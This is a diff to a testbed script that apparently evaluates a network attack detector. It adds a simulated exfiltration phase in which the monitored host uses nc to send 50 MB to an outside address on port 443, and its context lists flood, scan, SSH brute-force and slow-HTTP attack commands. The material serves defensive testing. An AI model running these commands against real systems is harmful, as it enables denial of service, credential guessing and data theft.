@@ -16,7 +16,7 @@
 #       198.18.0.4   IoT-like: 40-60 B UDP telemetry to 1883 and 5683 every second
 #   nat 198.18.0.5   a home router masquerading (nftables) for 198.18.1.10-17 in the lan
 #                    namespace: "many clients behind one NAT address"
-#   atk 198.18.0.3   the attacker
+#   atk 198.18.0.3   the attacker; it also holds 198.19.0.1, an address outside the home net
 #
 # Phases, one after the other in this order, each with its start and end recorded
 # (EVAL_PHASES="a b" runs only those; "benign" and "attacks" name the two groups):
@@ -31,7 +31,10 @@
 #     dns         a busy DNS client: 5,000 lookups in a tight loop (dig -f)
 #   attacks (from the attacker, 12 s apart, as before):
 #     hping3_syn_flood nmap_sS hping3_udp_flood nmap_sT hping3_icmp_flood hydra_ssh nmap_sU
-#     slowhttptest nmap_sV upload_nc_9999 (50 MB uploaded by the attacker to :9999)
+#     slowhttptest nmap_sV upload_in_nc_9999 (50 MB uploaded by the attacker to :9999 of
+#     the monitored host: an inbound upload, scored by no class; its classes are printed)
+#     exfil_out_443 (the monitored host, compromised, opens a connection to 198.19.0.1:443
+#     outside the home net and uploads 50 MB: data_exfiltration from 198.18.0.1)
 # Rules: after each phase's pause the automatic drop rules are listed (with their hits) and
 # deleted, so the next phase meets an unblocked bed; EVAL_UNBLOCK=0 deletes the attacker's
 # only and leaves rules against benign hosts in place, as an operator would meet them.
@@ -69,7 +72,7 @@ read -ra LAN_IPS <<<"$TB_LAN_IPS"
 PHASES=" ${EVAL_PHASES:-benign attacks} "
 BENIGN=(browse ab iperf3 iperf3_rev download stream backup nat dns)
 ATTACKS=(hping3_syn_flood nmap_sS hping3_udp_flood nmap_sT hping3_icmp_flood hydra_ssh nmap_sU
-	 slowhttptest nmap_sV upload_nc_9999)
+	 slowhttptest nmap_sV upload_in_nc_9999 exfil_out_443)
 for p in $PHASES; do
 	case " benign attacks ${BENIGN[*]} ${ATTACKS[*]} " in
 	*" $p "*) ;;
@@ -309,21 +312,23 @@ p_stream() {
 	summary "$(awk '{ printf "%.0f MB at %.2f MB/s", $1 / 1e6, $2 / 1e6 }' "$W/stream.txt")"
 	return $rc
 }
-p_backup() {
-	CUR=backup
-	local rx rc
-	in_ns "$TB_CLI_NS" timeout 60 sh -c "nc -l $TB_CLI_IP 873 | wc -c" >"$W/backup.txt" &
+# push RX-NS ADDR PORT FILE WHERE: the monitored host opens a connection to ADDR:PORT, where
+# an nc in RX-NS listens, and sends FILE (60 s at most); the summary says how much arrived.
+push() {
+	local ns=$1 addr=$2 port=$3 file=$4 where=$5 rx rc
+	in_ns "$ns" timeout 60 sh -c "nc -l $addr $port | wc -c" >"$W/$CUR.txt" &
 	rx=$!
 	for _ in $(seq 50); do
-		in_ns "$TB_CLI_NS" ss -Hltn "src $TB_CLI_IP:873" | grep -q . && break
+		in_ns "$ns" ss -Hltn "src $addr:$port" | grep -q . && break
 		sleep 0.1
 	done
-	in_ns "$TB_MON_NS" timeout 60 nc -N "$TB_CLI_IP" 873 <"$W/www/big.bin"
+	in_ns "$TB_MON_NS" timeout 60 nc -N "$addr" "$port" <"$file"
 	rc=$?
 	wait "$rx"
-	summary "$(awk '{ printf "%.0f MB received by the client", $1 / 1e6 }' "$W/backup.txt")"
+	summary "$(awk -v w="$where" '{ printf "%.0f MB received %s", $1 / 1e6, w }' "$W/$CUR.txt")"
 	return $rc
 }
+p_backup() { CUR=backup; push "$TB_CLI_NS" "$TB_CLI_IP" 873 "$W/www/big.bin" "by the client"; }
 p_nat() {
 	CUR=nat
 	local ip pids=() rc=0 p
@@ -368,6 +373,7 @@ for w in 123456 password admin root toor letmein qwerty 12345678 111111 abc123 \
 	echo "${w}1"
 done >"$W/words"
 atk() { in_ns "$TB_ATK_NS" "$@"; }
+p_exfil() { CUR=exfil_out_443; push "$TB_ATK_NS" "$TB_EXT_IP" 443 "$W/upload.bin" outside; }
 
 echo "eval: live: nadxdp on $TB_MON_IF, mitigation on; phases:$PHASES"
 B=benign
@@ -396,8 +402,8 @@ phase $A slowhttptest dos_attack "$X" 12 atk timeout 25 slowhttptest -H -c 300 -
 	-u "http://$TB_MON_IP/" -p 3 -x 24
 phase $A nmap_sV scanning "$X" 12 atk timeout 60 nmap -n -Pn -sV -p 1-100 -T4 --max-retries 1 \
 	--version-light "$TB_MON_IP"
-phase $A upload_nc_9999 data_exfiltration "$X" 12 atk timeout 30 sh -c \
-	"nc -N $TB_MON_IP 9999 <'$W/upload.bin'"
+phase $A upload_in_nc_9999 - "$X" 12 atk timeout 30 sh -c "nc -N $TB_MON_IP 9999 <'$W/upload.bin'"
+phase $A exfil_out_443 data_exfiltration "$TB_MON_IP" 12 p_exfil
 
 # packets each source sent over the whole run (the kernel's per-source counters)
 snap end
